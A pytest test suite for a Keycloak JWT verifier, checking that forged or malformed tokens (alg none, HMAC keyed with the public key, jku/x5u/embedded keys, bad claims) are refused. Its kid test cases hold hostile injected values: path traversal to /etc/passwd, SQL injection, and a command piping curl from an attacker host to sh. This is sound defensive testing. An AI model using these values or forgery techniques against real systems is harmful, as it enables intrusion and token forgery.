"""KeycloakAuth.verify against the attack checklist of resource-server.md (items 8-38) and its token cache.

Every refused token is otherwise valid and correctly signed wherever the attack allows, so only the
check under test can refuse it. Checks that run before the key lookup also assert that the issuer saw
no request at all.
"""

from __future__ import annotations

import base64
import hmac
import json
from collections.abc import Callable, Iterator, Mapping
from typing import Any

import pytest
from cryptography.hazmat.primitives.asymmetric import rsa
from cryptography.hazmat.primitives.asymmetric.utils import encode_dss_signature
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from joserfc.errors import SecurityWarning
from joserfc.jwk import RSAKey
from joserfc.jws import JWSRegistry

from fastapi_kc_m2m import InvalidToken, KeycloakAuth, KeycloakSettings
from fastapi_kc_m2m.cli import self_signed_certificate
from fastapi_kc_m2m.server import verifier
from fastapi_kc_m2m.testing import OMIT, FrozenClock, SigningKey, TestIssuer, b64url, generate_key

pytestmark = pytest.mark.anyio

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
TRUSTED_ISSUER = "http://keycloak.test/realms/test"  # TestIssuer's default
P256_ORDER = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551


# ----------------------------------------------------------------------------------------------- helpers
def b64decode(segment: str) -> bytes:
    return base64.urlsafe_b64decode(segment + "=" * (-len(segment) % 4))


def encode(part: Mapping[str, Any] | bytes) -> str:
    return b64url(part if isinstance(part, bytes) else json.dumps(dict(part)).encode())


def forge(header: Mapping[str, Any] | bytes, payload: Mapping[str, Any] | bytes, sign: Callable[[bytes], bytes]) -> str:
    """A compact JWS built by hand, for headers TestIssuer.sign cannot express."""
    signing_input = f"{encode(header)}.{encode(payload)}"
    return f"{signing_input}.{b64url(sign(signing_input.encode()))}"


def signer(key: SigningKey, alg: str = "RS256") -> Callable[[bytes], bytes]:
    return lambda data: JWSRegistry.algorithms[alg].sign(data, key)


def hmac_signer(secret: bytes, digest: str = "sha256") -> Callable[[bytes], bytes]:
    return lambda data: hmac.new(secret, data, digest).digest()


def raw_header(issuer: TestIssuer, extra: bytes = b"") -> bytes:
    """The issuer's usual header as JSON text, with raw ``extra`` members appended."""
    return f'{{"alg":"RS256","typ":"JWT","kid":"{issuer.signing_key.kid}"'.encode() + extra + b"}"


def raw_claims(issuer: TestIssuer, name: str, literal: bytes) -> bytes:
    """The issuer's claims as JSON text with ``name`` set to a raw JSON ``literal`` (NaN, 1e400, ...)."""
    claims = issuer.claims()
    claims.pop(name, None)
    return json.dumps(claims)[:-1].encode() + f', "{name}": '.encode() + literal + b"}"


async def refused(auth: KeycloakAuth, token: str) -> None:
    with pytest.raises(InvalidToken):
        await auth.verify(token)


@pytest.fixture
def ec_issuer(clock: FrozenClock) -> TestIssuer:
    return TestIssuer(algorithm="ES256", clock=clock)


@pytest.fixture
def signature_checks(monkeypatch: pytest.MonkeyPatch) -> list[bool]:
    """Records every signature verification the verifier performs (one per token not served from cache)."""
    calls: list[bool] = []
    original = verifier.signature_is_valid

    def spy(*args: Any) -> bool:
        calls.append(original(*args))
        return calls[-1]

    monkeypatch.setattr(verifier, "signature_is_valid", spy)
    return calls


@pytest.fixture(scope="module")
def attacker() -> Iterator[TestIssuer]:
    """An attacker's key server on a loopback port; nothing may ever reach it."""
    with TestIssuer.serving(realm="attacker") as running:
        yield running


async def test_hand_built_tokens_are_accepted_when_sound(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    """The helpers build valid tokens, so the refusals below are due to the one defect each injects."""
    await auth.verify(forge(raw_header(issuer), issuer.claims(), signer(issuer.signing_key)))
    await auth.verify(issuer.sign(raw_claims(issuer, "exp", str(int(issuer.clock()) + 300).encode())))
    await auth.verify(issuer.sign(raw_claims(issuer, "nbf", b"1")))


# ----------------------------------------------------------------------------- 8-11: strict compact JWS
def _jwe(payload_b64: str) -> str:
    header = encode({"alg": "RSA-OAEP", "enc": "A256GCM", "kid": "enc"})
    return f"{header}.{b64url(b'k' * 256)}.{b64url(b'iv' * 6)}.{payload_b64}.{b64url(b't' * 16)}"


@pytest.mark.parametrize(
    "build",
    [
        pytest.param(lambda h, p, s: f"{h}.{p}", id="2-segments"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}.{s}", id="4-segments"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}.{s}.{s}", id="5-segments"),
        pytest.param(lambda h, p, s: f"{h}.{p}.{s}.", id="trailing-dot"),
        pytest.param(lambda h, p, s: f".{h}.{p}.{s}", id="leading-dot"),
        pytest.param(lambda h, p, s: f"{h}..{p}.{s}", id="doubled-dot"),
        pytest.param(lambda h, p, s: f"{h}..{s}", id="empty-payload"),
        pytest.param(lambda h, p, s: f".{p}.{s}", id="empty-header"),
        pytest.param(lambda h, p, s: "..", id="all-empty"),
        pytest.param(lambda h, p, s: f"{h}{p}{s}", id="1-segment"),
        pytest.param(lambda h, p, s: "", id="empty-string"),
        pytest.param(lambda h, p, s: _jwe(p), id="jwe"),
    ],
)
async def test_not_three_segments_is_refused(issuer: TestIssuer, auth: KeycloakAuth, build: Callable) -> None:
    await refused(auth, build(*issuer.token().split(".")))
    assert not issuer.requests


@pytest.mark.parametrize("form", ["flattened", "general", "claims"])
async def test_json_serialization_is_refused(issuer: TestIssuer, auth: KeycloakAuth, form: str) -> None:
    h, p, s = issuer.token().split(".")
    token = {
        "flattened": json.dumps({"protected": h, "payload": p, "signature": s}),
        "general": json.dumps({"payload": p, "signatures": [{"protected": h, "signature": s}]}),
        "claims": json.dumps(issuer.claims()),
    }[form]
    await refused(auth, token)
    assert not issuer.requests


@pytest.mark.parametrize("part", [0, 1, 2], ids=["header", "payload", "signature"])
@pytest.mark.parametrize(
    "mangle",
    [
        pytest.param(lambda s: s + "=" * (-len(s) % 4 or 4), id="padding"),
        pytest.param(lambda s: s + "==", id="double-padding"),
        pytest.param(lambda s: f"{s[:8]}\r\n{s[8:]}", id="crlf"),
        pytest.param(lambda s: f"{s[:8]}  {s[8:]}", id="spaces"),
        pytest.param(lambda s: f"{s[:8]}\t\t{s[8:]}", id="tabs"),
        pytest.param(lambda s: f" {s}", id="leading-space"),
        pytest.param(lambda s: f"{s}\n", id="trailing-newline"),
        pytest.param(lambda s: f"{s[:8]}!{s[9:]}", id="bang"),
        pytest.param(lambda s: f"{s[:8]}%{s[9:]}", id="percent"),
        pytest.param(lambda s: f"{s[:8]}\u00e9{s[9:]}", id="non-ascii"),
        pytest.param(lambda s: f"{s[:8]}\x00{s[9:]}", id="nul"),
        pytest.param(lambda s: f"{s[:8]}={s[9:]}", id="inner-equals"),
    ],
)
async def test_non_base64url_segments_are_refused(
    issuer: TestIssuer, auth: KeycloakAuth, part: int, mangle: Callable[[str], str]
) -> None:
    parts = issuer.token().split(".")
    parts[part] = mangle(parts[part])
    await refused(auth, ".".join(parts))
    assert not issuer.requests


async def test_standard_base64_alphabet_is_refused(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    token = issuer.token()
    while not {"-", "_"} & set(token):
        token = issuer.token()
    await refused(auth, token.replace("-", "+").replace("_", "/"))
    assert not issuer.requests


def _not_objects() -> list[Any]:
    return [
        pytest.param(b"[]", id="array"),
        pytest.param(b'"RS256"', id="string"),
        pytest.param(b"null", id="null"),
        pytest.param(b"42", id="number"),
        pytest.param(b"", id="empty"),
    ]


def _bad_bytes(base: bytes) -> list[Any]:
    """``base`` is a JSON object without its closing brace; each variant spoils it in one way."""
    return [
        pytest.param(base + b', "x": "\xff"}', id="invalid-utf8"),
        pytest.param(base + b', "x": "\xc0\xaf"}', id="overlong-utf8"),
        pytest.param(base + b', "x": "\xed\xa0\x80"}', id="surrogate-utf8"),
        pytest.param(b"\xef\xbb\xbf" + base + b"}", id="bom"),
        pytest.param(base + b"}x", id="trailing-garbage"),
        pytest.param(base + b"}{}", id="trailing-object"),
        pytest.param(base + b', "x": NaN}', id="NaN"),
        pytest.param(base + b', "x": Infinity}', id="Infinity"),
        pytest.param(base + b', "x": -Infinity}', id="-Infinity"),
    ]


@pytest.mark.parametrize("payload", [*_not_objects(), *_bad_bytes(b'{"placeholder": 1')])
async def test_payload_must_be_a_strict_json_object(issuer: TestIssuer, auth: KeycloakAuth, payload: bytes) -> None:
    if payload.startswith((b'{"placeholder"', b'\xef\xbb\xbf{"placeholder"')):
        payload = payload.replace(b'{"placeholder": 1', json.dumps(issuer.claims())[:-1].encode())
    await refused(auth, issuer.sign(payload))
    assert not issuer.requests


@pytest.mark.parametrize("header", [*_not_objects(), *_bad_bytes(b'{"placeholder": 1')])
async def test_header_must_be_a_strict_json_object(issuer: TestIssuer, auth: KeycloakAuth, header: bytes) -> None:
    if header.startswith((b'{"placeholder"', b'\xef\xbb\xbf{"placeholder"')):
        header = header.replace(b'{"placeholder": 1', raw_header(issuer)[:-1])
    await refused(auth, forge(header, issuer.claims(), signer(issuer.signing_key)))
    assert not issuer.requests


# -------------------------------------------------------------------------- 12: duplicate member names
@pytest.mark.parametrize(
    ("header_extra", "claim", "first_value"),
    [
        pytest.param(b"", "iss", b'"http://evil.test/realms/test"', id="two-iss"),
        pytest.param(b"", "exp", b"1", id="two-exp"),
        pytest.param(b"", "aud", b'"account"', id="two-aud"),
        pytest.param(b'"alg":"none"', None, None, id="two-alg"),
        pytest.param(b'"kid":"other"', None, None, id="two-kid"),
        pytest.param(b'"typ":"dpop+jwt"', None, None, id="two-typ"),
    ],
)
async def test_duplicate_member_names_are_refused(
    issuer: TestIssuer, auth: KeycloakAuth, header_extra: bytes, claim: str | None, first_value: bytes | None
) -> None:
    header = raw_header(issuer)
    if header_extra:  # the bad duplicate comes first; a last-one-wins parser would see a valid header
        header = b"{" + header_extra + b"," + header[1:]
    payload = json.dumps(issuer.claims()).encode()
    if claim is not None and first_value is not None:
        payload = f'{{"{claim}": '.encode() + first_value + b", " + payload[1:]
    await refused(auth, forge(header, payload, signer(issuer.signing_key)))
    assert not issuer.requests


async def test_duplicate_names_in_nested_objects_are_refused(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    payload = raw_claims(issuer, "realm_access", b'{"roles": [], "roles": ["admin"]}')
    await refused(auth, issuer.sign(payload))


# ------------------------------------------------------------------------- 13-17: alg and signatures
@pytest.mark.parametrize("alg", ["none", "None", "NONE", "nOnE", "", None, OMIT])
async def test_alg_none_is_refused(issuer: TestIssuer, auth: KeycloakAuth, alg: Any) -> None:
    token = issuer.token(header={"alg": alg})
    assert token.endswith(".")
    await refused(auth, token)
    assert not issuer.requests


@pytest.mark.parametrize(
    "cut",
    [
        pytest.param(lambda sig: b"", id="empty"),
        pytest.param(lambda sig: sig[:-1], id="one-byte-short"),
        pytest.param(lambda sig: sig[: len(sig) // 2], id="half"),
        pytest.param(lambda sig: sig[:1], id="one-byte"),
        pytest.param(lambda sig: sig + b"\x00", id="one-byte-long"),
        pytest.param(lambda sig: bytes(len(sig)), id="zeros"),
    ],
)
async def test_empty_or_truncated_signature_is_refused(
    issuer: TestIssuer, auth: KeycloakAuth, cut: Callable[[bytes], bytes]
) -> None:
    h, p, s = issuer.token().split(".")
    await refused(auth, f"{h}.{p}.{b64url(cut(b64decode(s)))}")


@pytest.mark.parametrize("part", [0, 1, 2], ids=["header", "payload", "signature"])
async def test_one_flipped_bit_anywhere_is_refused(issuer: TestIssuer, auth: KeycloakAuth, part: int) -> None:
    parts = issuer.token().split(".")
    data = b64decode(parts[part])
    for index in range(len(data)):
        for bit in range(8):
            flipped = bytearray(data)
            flipped[index] ^= 1 << bit
            forged = parts.copy()
            forged[part] = b64url(bytes(flipped))
            await refused(auth, ".".join(forged))


async def test_non_canonical_trailing_bits_are_refused(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    """Flipping an unused bit of the last character keeps the bytes: only strict decoding notices."""
    token = issuer.token()
    await auth.verify(token)
    parts = token.split(".")
    assert len(parts[2]) % 4 == 2  # a 256-byte signature: its last character carries 4 unused bits
    flipped_any = 0
    for part, segment in enumerate(parts):
        unused_bits = {2: 4, 3: 2}.get(len(segment) % 4, 0)
        for bit in range(unused_bits):
            forged = parts.copy()
            forged[part] = segment[:-1] + ALPHABET[ALPHABET.index(segment[-1]) ^ (1 << bit)]
            assert b64decode(forged[part]) == b64decode(segment)
            await refused(auth, ".".join(forged))
            flipped_any += 1
    assert flipped_any >= 4


def _public_secrets(key: RSAKey) -> dict[str, bytes]:
    public = key.public_key
    jwk = key.as_dict(private=False)
    return {
        "pem": key.as_pem(private=False),
        "pem-no-newline": key.as_pem(private=False).rstrip(b"\n"),
        "der-spki": public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        "der-pkcs1": public.public_bytes(Encoding.DER, PublicFormat.PKCS1),
        "jwk-n": jwk["n"].encode(),
        "jwk-n-bytes": b64decode(jwk["n"]),
        "jwk-json": json.dumps(jwk).encode(),
    }


@pytest.mark.parametrize(
    "secret_name", ["pem", "pem-no-newline", "der-spki", "der-pkcs1", "jwk-n", "jwk-n-bytes", "jwk-json"]
)
async def test_hs256_keyed_with_the_public_key_is_refused(
    issuer: TestIssuer, auth: KeycloakAuth, secret_name: str
) -> None:
    secret = _public_secrets(issuer.signing_key)[secret_name]
    header = {"alg": "HS256", "typ": "JWT", "kid": issuer.signing_key.kid}
    await refused(auth, forge(header, issuer.claims(), hmac_signer(secret)))
    assert not issuer.requests


@pytest.mark.parametrize("alg", ["HS256", "HS384", "HS512"])
@pytest.mark.parametrize("secret", [b"", b"secret", b"password", b"changeit", b"your-256-bit-secret", b"\x00"])
async def test_hmac_with_empty_or_common_secret_is_refused(
    issuer: TestIssuer, auth: KeycloakAuth, alg: str, secret: bytes
) -> None:
    header = {"alg": alg, "typ": "JWT", "kid": issuer.signing_key.kid}
    await refused(auth, forge(header, issuer.claims(), hmac_signer(secret, "sha" + alg[2:])))
    assert not issuer.requests


# ----------------------------------------------------------------------------- 18-22: keys and algorithms
@pytest.mark.parametrize("alg", ["RS384", "RS512", "PS256", "PS512"])
async def test_real_key_with_an_algorithm_outside_the_allow_list_is_refused(
    issuer: TestIssuer, auth: KeycloakAuth, alg: str
) -> None:
    await refused(auth, issuer.token(header={"alg": alg}))
    assert not issuer.requests


async def test_ec_key_when_only_rs256_is_allowed_is_refused(ec_issuer: TestIssuer) -> None:
    async with ec_issuer.auth(algorithms=("RS256",)) as auth:
        await refused(auth, ec_issuer.token())
        assert not ec_issuer.requests


@pytest.mark.parametrize(("published", "used"), [("RS256", "PS256"), ("PS256", "RS256"), ("RS256", "RS512")])
async def test_header_alg_must_match_the_jwk_alg(clock: FrozenClock, published: str, used: str) -> None:
    issuer = TestIssuer(algorithm=published, clock=clock)
    assert issuer.jwks()["keys"][-1]["alg"] == published
    async with issuer.auth(algorithms=(published, used)) as auth:
        await auth.verify(issuer.token())
        await refused(auth, issuer.token(header={"alg": used}))


@pytest.mark.parametrize(
    "parameters", [{"use": "enc", "alg": "RSA-OAEP"}, {"use": "enc"}], ids=["keycloak-enc-key", "enc-without-alg"]
)
async def test_kid_of_the_encryption_key_is_refused(
    issuer: TestIssuer, auth: KeycloakAuth, parameters: dict[str, str]
) -> None:
    issuer.encryption_key = RSAKey.generate_key(2048, parameters=parameters, auto_kid=True)
    token = issuer.token(key=issuer.encryption_key)
    assert json.loads(b64decode(token.split(".")[0]))["kid"] == issuer.encryption_key.kid
    await refused(auth, token)


def _rs(raw: bytes) -> tuple[int, int]:
    return int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big")


def _ecdsa_variants() -> list[Any]:
    n = P256_ORDER
    top = 2**256 - 1
    return [
        pytest.param(lambda r, s: (0, 0), id="r=s=0"),
        pytest.param(lambda r, s: (0, s), id="r=0"),
        pytest.param(lambda r, s: (r, 0), id="s=0"),
        pytest.param(lambda r, s: (n, n), id="r=s=n"),
        pytest.param(lambda r, s: (n, s), id="r=n"),
        pytest.param(lambda r, s: (r, n), id="s=n"),
        pytest.param(lambda r, s: (top, s), id="r=2^256-1"),
        pytest.param(lambda r, s: (r, top), id="s=2^256-1"),
        pytest.param(lambda r, s: (1, 1), id="r=s=1"),
    ]


@pytest.mark.parametrize("tamper", _ecdsa_variants())
async def test_ecdsa_out_of_range_r_and_s_are_refused(
    ec_issuer: TestIssuer, tamper: Callable[[int, int], tuple[int, int]]
) -> None:
    token = ec_issuer.token()
    h, p, s = token.split(".")
    raw = b64decode(s)
    r_new, s_new = tamper(int.from_bytes(raw[:32], "big"), int.from_bytes(raw[32:], "big"))
    async with ec_issuer.auth() as auth:
        await auth.verify(token)
        await refused(auth, f"{h}.{p}.{b64url(r_new.to_bytes(32, 'big') + s_new.to_bytes(32, 'big'))}")


@pytest.mark.parametrize(
    "reshape",
    [
        pytest.param(lambda raw: encode_dss_signature(*_rs(raw)), id="der"),
        pytest.param(lambda raw: raw[:-1], id="63-bytes"),
        pytest.param(lambda raw: raw + b"\x00", id="65-bytes-trailing-zero"),
        pytest.param(lambda raw: b"\x00" + raw, id="65-bytes-leading-zero"),
        pytest.param(lambda raw: b"\x00" + raw[:32] + b"\x00" + raw[32:], id="66-bytes-padded-halves"),
        pytest.param(lambda raw: raw[:32] + b"\x00" * 16 + raw[32:] + b"\x00" * 16, id="96-bytes"),
        pytest.param(lambda raw: raw + raw, id="128-bytes"),
    ],
)
async def test_ecdsa_wrong_length_or_der_signature_is_refused(
    ec_issuer: TestIssuer, reshape: Callable[[bytes], bytes]
) -> None:
    token = ec_issuer.token()
    h, p, s = token.split(".")
    async with ec_issuer.auth() as auth:
        await auth.verify(token)
        await refused(auth, f"{h}.{p}.{b64url(reshape(b64decode(s)))}")


# ------------------------------------------------------------------------------------ 23-26: key ids
# Outside tests joserfc only warns about weak keys, so the key set's own size check must drop the key.
@pytest.mark.filterwarnings("ignore::joserfc.errors.SecurityWarning")
async def test_token_signed_by_a_published_weak_rsa_key_is_refused(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    with pytest.warns(SecurityWarning):
        weak = RSAKey.import_key(rsa.generate_private_key(65537, 1024), parameters={"kid": "weak"})  # noqa: S505 - on purpose
    issuer.published.append(weak)
    assert any(jwk.get("kid") == "weak" for jwk in issuer.jwks()["keys"])
    await refused(auth, issuer.token(key=weak))


async def test_unknown_kids_are_refused_with_bounded_fetches(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    attacker_key = generate_key()
    for number in range(100):
        await refused(auth, issuer.token(key=attacker_key, header={"kid": f"kid-{number}"}))
    assert issuer.requests["jwks"] <= 2  # the cold load and at most one refetch per cooldown


@pytest.mark.parametrize(
    "kid",
    [
        pytest.param("../../../../etc/passwd", id="path-traversal"),
        pytest.param("..\\..\\windows\\win.ini", id="path-traversal-backslash"),
        pytest.param("%2e%2e%2fetc%2fpasswd", id="path-traversal-encoded"),
        pytest.param("' OR '1'='1' --", id="sql"),
        pytest.param("x; DROP TABLE keys", id="sql-drop"),
        pytest.param("$(curl http://attacker.test)|sh", id="shell"),
        pytest.param("`id`", id="shell-backticks"),
        pytest.param("A" * 10240, id="10KB"),
        pytest.param(12345, id="number"),
        pytest.param({"kid": "x"}, id="object"),
        pytest.param(["x"], id="array"),
        pytest.param(True, id="boolean"),
        pytest.param(None, id="null"),
        pytest.param("", id="empty"),
        pytest.param("kid\x00", id="nul"),
        pytest.param("kid\r\nX-Injected: 1", id="crlf"),
    ],
)
async def test_malformed_kid_is_refused_without_fetch(issuer: TestIssuer, auth: KeycloakAuth, kid: Any) -> None:
    token = issuer.token(header={"kid": kid})
    assert len(token) <= auth.settings.max_token_bytes
    await refused(auth, token)
    assert not issuer.requests


async def test_missing_kid_is_refused_when_several_signing_keys_are_published(
    issuer: TestIssuer, auth: KeycloakAuth
) -> None:
    issuer.rotate()
    for key in issuer.published:  # the first published key is what a kid-less lookup would fall back to
        await auth.verify(issuer.token(key=key))
        await refused(auth, issuer.token(key=key, header={"kid": OMIT}))


async def test_missing_kid_is_accepted_with_a_single_signing_key(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    await auth.verify(issuer.token(header={"kid": OMIT}))


# ------------------------------------------------------------------------- 27-30: header members
@pytest.mark.parametrize("member", ["jku", "x5u"])
@pytest.mark.parametrize("signed_by", ["legitimate-key", "attacker-key"])
async def test_jku_and_x5u_are_refused_and_never_fetched(
    served_issuer: TestIssuer, attacker: TestIssuer, member: str, signed_by: str
) -> None:
    key = served_issuer.signing_key if signed_by == "legitimate-key" else attacker.signing_key
    url = attacker.discovery_document()["jwks_uri"] if member == "jku" else f"{attacker.base_url}/cert.pem"
    async with KeycloakAuth(served_issuer.settings()) as auth:
        await refused(auth, served_issuer.token(key=key, header={member: url}))
    assert not attacker.requests
    assert not served_issuer.requests


def _self_signed_x5c(key: SigningKey) -> list[str]:
    certificate = self_signed_certificate(key.private_key, "keycloak.test", days=1)
    return [base64.b64encode(certificate.public_bytes(Encoding.DER)).decode()]


@pytest.mark.parametrize("member", ["jwk", "x5c"])
@pytest.mark.parametrize("signed_by", ["legitimate-key", "attacker-key"])
async def test_embedded_jwk_or_x5c_is_refused(
    issuer: TestIssuer, auth: KeycloakAuth, member: str, signed_by: str
) -> None:
    key = issuer.signing_key if signed_by == "legitimate-key" else generate_key()
    embedded = key.as_dict(private=False) if member == "jwk" else _self_signed_x5c(key)
    await refused(auth, issuer.token(key=key, header={member: embedded}))
    assert not issuer.requests


@pytest.mark.parametrize("crit", [["exp"], [], "exp", ["b64"], ["http://example.com/x"], None, {"exp": True}], ids=repr)
async def test_crit_in_any_form_is_refused(issuer: TestIssuer, auth: KeycloakAuth, crit: Any) -> None:
    await refused(auth, issuer.token(header={"crit": crit}))
    assert not issuer.requests


@pytest.mark.parametrize("header", [{"b64": False, "crit": ["b64"]}, {"b64": False}], ids=["with-crit", "alone"])
async def test_unencoded_payload_is_refused(issuer: TestIssuer, auth: KeycloakAuth, header: dict[str, Any]) -> None:
    await refused(auth, issuer.token(header=header))  # b64 announced but payload encoded: only the flag differs
    h = encode(json.loads(raw_header(issuer)) | header)
    payload = json.dumps(issuer.claims())
    signature = signer(issuer.signing_key)(f"{h}.{payload}".encode())
    await refused(auth, f"{h}.{payload}.{b64url(signature)}")  # RFC 7797 unencoded payload
    await refused(auth, f"{h}..{b64url(signature)}")  # RFC 7797 detached payload
    assert not issuer.requests


# ------------------------------------------------------------------------------------- 31-34: times
@pytest.mark.parametrize(("offset", "accepted"), [(-61, False), (-60, False), (-59, True), (-1, True)])
async def test_expiry_allows_exactly_the_clock_skew(
    issuer: TestIssuer, auth: KeycloakAuth, clock: FrozenClock, offset: int, accepted: bool
) -> None:
    assert auth.settings.clock_skew == 60
    token = issuer.token(exp=clock.now + offset, iat=clock.now + offset - 300)
    if accepted:
        await auth.verify(token)
    else:
        await refused(auth, token)


async def test_missing_expiry_is_refused(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    await refused(auth, issuer.token(exp=OMIT))
    assert not issuer.requests


@pytest.mark.parametrize("claim", ["exp", "nbf", "iat"])
@pytest.mark.parametrize(
    "literal",
    [
        pytest.param(b'"NOW"', id="numeric-string"),
        pytest.param(b"true", id="true"),
        pytest.param(b"false", id="false"),
        pytest.param(b"null", id="null"),
        pytest.param(b"NaN", id="NaN"),
        pytest.param(b"Infinity", id="Infinity"),
        pytest.param(b"-Infinity", id="-Infinity"),
        pytest.param(b"1e400", id="overflow-to-inf"),
        pytest.param(b"1e30", id="1e30"),
        pytest.param(b"100000000000000000000", id="1e20-int"),
        pytest.param(b"-1", id="negative"),
        pytest.param(b"-1e9", id="negative-float"),
        pytest.param(b"[NOW]", id="array"),
        pytest.param(b'{"t": NOW}', id="object"),
    ],
)
async def test_malformed_time_claims_are_refused(
    issuer: TestIssuer, auth: KeycloakAuth, clock: FrozenClock, claim: str, literal: bytes
) -> None:
    now = str(int(clock.now) + (300 if claim == "exp" else 0)).encode()
    await refused(auth, issuer.sign(raw_claims(issuer, claim, literal.replace(b"NOW", now))))
    assert not issuer.requests


@pytest.mark.parametrize("claim", ["nbf", "iat"])
@pytest.mark.parametrize(("offset", "accepted"), [(61, False), (3600, False), (59, True), (0, True)])
async def test_nbf_and_iat_in_the_future_allow_only_the_clock_skew(
    issuer: TestIssuer, auth: KeycloakAuth, clock: FrozenClock, claim: str, offset: int, accepted: bool
) -> None:
    token = issuer.token(**{claim: clock.now + offset})
    if accepted:
        await auth.verify(token)
    else:
        await refused(auth, token)
        assert not issuer.requests


# ----------------------------------------------------------------------------- 35-38: iss, aud, typ
def _issuer_variants(trusted: str) -> list[Any]:
    base, realm = trusted.rsplit("/realms/", 1)
    return [
        pytest.param(f"{base}/realms/other", id="other-realm"),
        pytest.param(trusted + "/", id="trailing-slash"),
        pytest.param(trusted.upper(), id="upper-case"),
        pytest.param(f"{base}/realms/{realm.capitalize()}", id="realm-case"),
        pytest.param(trusted.replace("http://", "https://"), id="https"),
        pytest.param(trusted.replace("keycloak.test", "keycloak.test:80"), id="explicit-port"),
        pytest.param(f"{base}/auth/realms/{realm}", id="legacy-auth-path"),
        pytest.param(trusted[:-1], id="prefix"),
        pytest.param(trusted + "x", id="extended"),
        pytest.param(trusted + "/extra", id="sub-path"),
        pytest.param(f" {trusted}", id="leading-space"),
        pytest.param([trusted], id="array"),
        pytest.param({"iss": trusted}, id="object"),
        pytest.param(None, id="null"),
        pytest.param("", id="empty"),
        pytest.param(OMIT, id="missing"),
    ]


@pytest.mark.parametrize("iss", _issuer_variants(TRUSTED_ISSUER))
async def test_issuer_must_match_exactly(issuer: TestIssuer, auth: KeycloakAuth, iss: Any) -> None:
    assert issuer.issuer == TRUSTED_ISSUER
    await refused(auth, issuer.token(iss=iss))
    assert not issuer.requests


@pytest.mark.parametrize(
    "aud",
    [
        pytest.param(OMIT, id="missing"),
        pytest.param(None, id="null"),
        pytest.param("", id="empty-string"),
        pytest.param([], id="empty-list"),
        pytest.param("machine", id="substring"),
        pytest.param("machine-b-extra", id="superstring"),
        pytest.param("account machine-b", id="space-separated"),
        pytest.param("MACHINE-B", id="other-case"),
        pytest.param({"machine-b": True}, id="object"),
        pytest.param(["account"], id="list-without-ours"),
        pytest.param([["machine-b"]], id="nested-list"),
        pytest.param(["account", "machine-b "], id="list-with-near-miss"),
    ],
)
async def test_audience_must_name_us(issuer: TestIssuer, auth: KeycloakAuth, aud: Any) -> None:
    await refused(auth, issuer.token(aud=aud))
    assert not issuer.requests


@pytest.mark.parametrize("aud", ["machine-b", ["machine-b"], ["account", "machine-b"], ["machine-b", "account"]])
async def test_audience_naming_us_is_accepted(issuer: TestIssuer, auth: KeycloakAuth, aud: Any) -> None:
    assert (await auth.verify(issuer.token(aud=aud))).audiences


@pytest.mark.parametrize(
    "typ", ["ID", "Refresh", "Offline", "Logout", "Serialized-ID", "DPoP", "", ["Bearer"], 1, None]
)
async def test_payload_typ_other_than_bearer_is_refused(issuer: TestIssuer, auth: KeycloakAuth, typ: Any) -> None:
    await refused(auth, issuer.token(typ=typ))
    assert not issuer.requests


async def test_keycloak_refresh_and_logout_tokens_are_refused(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    refresh_header = {"alg": "HS512", "typ": "JWT", "kid": "6d1b8b3c-2f6a-4d4e-9f0e-3c5a1b2c3d4e"}
    refresh = issuer.claims() | {"typ": "Refresh", "aud": issuer.issuer}
    await refused(auth, forge(refresh_header, refresh, hmac_signer(b"realm-hmac-secret", "sha512")))
    await refused(auth, forge(refresh_header, refresh | {"aud": issuer.audience}, hmac_signer(b"", "sha512")))
    logout_event = {"http://schemas.openid.net/event/backchannel-logout": {}}
    await refused(auth, issuer.token(typ="Logout", events=logout_event, sid="s"))
    await refused(auth, issuer.token(typ=OMIT, events=logout_event, header={"typ": "logout+jwt"}))
    assert not issuer.requests


@pytest.mark.parametrize(
    "typ", ["dpop+jwt", "logout+jwt", "secevent+jwt", "id_token+jwt", "JWS", "application/jwt", "", 1, ["JWT"], None]
)
async def test_header_typ_of_other_tokens_is_refused(issuer: TestIssuer, auth: KeycloakAuth, typ: Any) -> None:
    await refused(auth, issuer.token(header={"typ": typ}))
    assert not issuer.requests


@pytest.mark.parametrize(
    "header_typ", ["JWT", "jwt", "Jwt", "at+jwt", "AT+JWT", "application/at+jwt", "Application/AT+JWT", OMIT]
)
@pytest.mark.parametrize("payload_typ", ["Bearer", "bearer", "BEARER"])
async def test_access_token_typ_variants_are_accepted(
    issuer: TestIssuer, auth: KeycloakAuth, header_typ: Any, payload_typ: Any
) -> None:
    await auth.verify(issuer.token(typ=payload_typ, header={"typ": header_typ}))


async def test_untyped_jwt_signed_by_the_realm_is_refused(issuer: TestIssuer, auth: KeycloakAuth) -> None:
    """A JARM authorization response (no payload typ) with our aud and the wanted scope: RFC 8725 §3.11."""
    now = int(issuer.clock())
    jarm = {"iss": issuer.issuer, "aud": issuer.audience, "exp": now + 60, "code": "c", "scope": "orders:read"}
    await refused(auth, issuer.sign(jarm))
    await refused(auth, issuer.token(typ=OMIT))


async def test_untrusted_realm_is_refused_without_any_fetch(
    issuer: TestIssuer, auth: KeycloakAuth, clock: FrozenClock
) -> None:
    other_realm = TestIssuer(realm="other", audience=issuer.audience, clock=clock)
    other_host = TestIssuer("http://evil.test", audience=issuer.audience, clock=clock)
    for token in (other_realm.token(), other_host.token(), issuer.token(iss=other_realm.issuer)):
        await refused(auth, token)
    assert not issuer.requests
    assert not other_realm.requests
    assert not other_host.requests


# ------------------------------------------------------------------------------ verified-token cache
async def test_repeated_token_is_served_from_the_cache(
    issuer: TestIssuer, auth: KeycloakAuth, signature_checks: list[bool]
) -> None:
    token = issuer.token()
    first = await auth.verify(token)
    for _ in range(3):
        assert await auth.verify(token) is first
    assert signature_checks == [True]
    await auth.verify(issuer.token())
    assert len(signature_checks) == 2


